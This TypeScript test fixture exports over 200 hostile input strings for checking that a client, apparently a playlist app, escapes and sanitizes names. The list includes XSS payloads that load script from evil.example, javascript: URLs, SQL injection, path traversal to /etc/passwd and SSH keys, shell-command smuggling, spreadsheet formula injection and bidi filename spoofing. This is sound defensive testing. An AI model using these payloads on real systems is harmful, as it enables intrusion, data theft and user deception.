// Names that try to run script, to leave the page, to break its layout, or to break the files that
// the client writes. A text that runs sets `window.pwned` or asks evil.example for something.

const RUN = 'window.pwned=1'

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<form action=https://evil.example><button>Log in</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<plaintext>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<dialog open>Log in again</dialog>`,
  `<marquee onstart=${RUN}>x</marquee>`
]

const HANDLERS = [
  'img src=x onerror',
  'img src="x" onerror',
  'IMG SRC=x ONERROR',
  'img/src=x/onerror',
  'svg onload',
  'svg/onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'video><source onerror',
  'input autofocus onfocus',
  'details open ontoggle',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'a href=# onclick',
  'div onpointerover',
  'style onload',
  'p style="animation:x" onanimationstart',
  'x tabindex=0 autofocus onfocus',
  'object onerror',
  'track onerror',
  'math onload',
  'p popover onbeforetoggle'
].map((start) => `<${start}=${RUN}>`)

const ATTRIBUTES = [
  `" onload="${RUN}`,
  `' onload='${RUN}`,
  `" onerror="${RUN}" src="x`,
  `" autofocus onfocus="${RUN}`,
  `x" onmouseover="${RUN}" y="`,
  `\` onload=\`${RUN}`,
  `" style="position:fixed;inset:0;background:red" x="`,
  `" class="btn btn-primary" x="`,
  `" href="javascript:${RUN}`,
  `" id="main" x="`,
  `"><img src=x onerror=${RUN}><a title="`,
  `"/><base href="https://evil.example/`
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`,
  'blob:https://evil.example/x',
  'https://evil.example/?q=',
  '//evil.example',
  '/\\evil.example',
  'file:///etc/passwd',
  '?next=//evil.example',
  '#/../evil'
]

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  '%3Cscript%3E',
  '&quot;&gt;&lt;img&gt;',
  '&NewLine;&Tab;&nbsp;&zwnj;',
  '&notanentity; &copy &lt',
  '＜script＞window.pwned=1＜/script＞',
  '‹script›'
]

const DIRECTIONS = [
  '\u202egnp.exe\u202c',
  '\u202eevil\u202d good',
  '\u2066isolated\u2069',
  '\u2067\u2067\u2067never closed',
  '\u202b\u202b\u202b\u202bnested',
  'photo\u202egpj.exe',
  '\u200e\u200f\u061c',
  'אבג abc דהו',
  'العربية abc 123',
  '\u202eX\u202eY\u202eZ',
  '(\u0661\u0662) [abc] «\u05d0»'
]

const CONTROLS = [
  'NUL\u0000inside',
  '\u0000\u0000',
  '\u0001\u0002\u0003\u0004',
  'bell\u0007 back\u0008space',
  'tab\ttab\ttab',
  'line\nline\nline',
  'return\r\nSet-Cookie: pwned=1',
  'vertical\u000b form\u000c',
  'escape\u001b[31mred\u001b[0m',
  'delete\u007f',
  'c1\u0085\u0090\u009f',
  'line\u2028separator',
  'paragraph\u2029separator',
  'zero\u200bwidth\u200cjoin\u200d\ufeff',
  '\ufeffbyte order',
  'soft\u00adhyphen',
  'noncharacter \ufffe \uffff',
  'half a pair \ud83d',
  '\udc00 other half',
  ' ',
  '\u3000',
  '\u2800',
  '\u00a0\u00a0\u00a0'
]

const LENGTHS = [
  'w'.repeat(10_000),
  'W '.repeat(5_000),
  'ﷺ'.repeat(500),
  '𒐫'.repeat(300),
  `a${'\u0301'.repeat(400)}`,
  `Z${'\u0310\u0322\u0335'.repeat(100)}algo`,
  'ก็'.padEnd(300, '็'),
  '-'.repeat(2_000),
  '/'.repeat(2_000),
  '\u00ad'.repeat(2_000),
  '\n'.repeat(500),
  '🎵'.repeat(1_000),
  '🏳️‍🌈'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(100),
  '👨🏽‍🚀👩🏿‍🎤',
  '🇪🇺🇺🇳',
  '\u200d'.repeat(300),
  '9'.repeat(400),
  '字'.repeat(1_000)
]

const QUERIES = [
  `'; DROP TABLE tracks; --`,
  `' OR '1'='1`,
  `" OR ""="`,
  `1; SELECT pg_sleep(10)`,
  `%' AND 1=1 --`,
  `\\'; --`,
  `admin'/*`,
  `NULL`,
  `*:* NEAR "`,
  `%_%_%`,
  `{"$gt": ""}`,
  `) OR (1=1`
]

const PATHS = [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\system32',
  '/etc/passwd',
  '....//....//etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..%c0%af..',
  'C:\\CON',
  'CON',
  'nul.txt',
  '.htaccess',
  '.',
  '..',
  '~/.ssh/id_rsa',
  'name.m3u8/../../x',
  'a:b*c?d"e<f>g|h',
  'trailing dot.',
  'file.csv\u0000.png',
  '$(touch pwned)',
  '`touch pwned`',
  '; touch pwned',
  '| touch pwned',
  '-rf'
]

const TEMPLATES = [
  '{{constructor.constructor("window.pwned=1")()}}',
  '{{7*7}}',
  '${7*7}',
  '${window.pwned=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  '$t(common.retry)',
  '$t(common.retry, {"count": 1})',
  '{{name}}',
  '{{- name, uppercase }}',
  '{{count, number}}',
  '__name__',
  '__id__',
  '%s %d %o %c',
  '$& $1 $` $$',
  'common.retry',
  '{name}',
  '{count, plural, other {#}}'
]

const MARKDOWN = [
  `[press](javascript:${RUN})`,
  `[press](JAVASCRIPT:${RUN})`,
  `[press](java&#10;script:${RUN})`,
  `[press](data:text/html,<script>${RUN}</script>)`,
  `![x](x"onerror="${RUN})`,
  `![x](https://evil.example/x.png)`,
  `<javascript:${RUN}>`,
  `[a]: javascript:${RUN}`,
  `**<img src=x onerror=${RUN}>**`,
  `# <svg onload=${RUN}>`,
  '[x](//evil.example)',
  `> ${'> '.repeat(200)}deep`,
  '`<script>`',
  '@nobody@evil.example #pwned',
  '[ ](https://evil.example "title")'
]

const STYLES = [
  `</style><style>*{display:none}`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<style>main{display:none!important}</style>`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `url("https://evil.example/x.png")`,
  `red;background:url(https://evil.example)`,
  `<div style="position:fixed;inset:0;z-index:99999">Log in</div>`,
  `"); background: url("https://evil.example`,
  `/* */ } body { display: none }`
]

/** For spreadsheets, and for the files of playlists. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example","press")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  'a,b;c\td',
  '"quoted" and ""twice""',
  '#EXTM3U',
  '#EXTINF:9999999999,x',
  ']]></title></track><track>'
]

const WORDS = [
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'prototype',
  'true',
  '0',
  '-0',
  '1e309',
  '0x10',
  'on',
  'main',
  'then'
]

/** More than 200, each once. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...ELEMENTS,
    ...HANDLERS,
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...ENTITIES,
    ...DIRECTIONS,
    ...CONTROLS,
    ...LENGTHS,
    ...QUERIES,
    ...PATHS,
    ...TEMPLATES,
    ...MARKDOWN,
    ...STYLES,
    ...FORMULAS,
    ...WORDS
  ])
]

/** One of each kind, for what takes long. */
export const hostileFew: readonly string[] = [
  ELEMENTS,
  HANDLERS,
  ATTRIBUTES,
  ADDRESSES,
  ENTITIES,
  DIRECTIONS,
  CONTROLS,
  LENGTHS,
  QUERIES,
  PATHS,
  TEMPLATES,
  MARKDOWN,
  STYLES,
  FORMULAS,
  WORDS
].map(([first]) => first!)
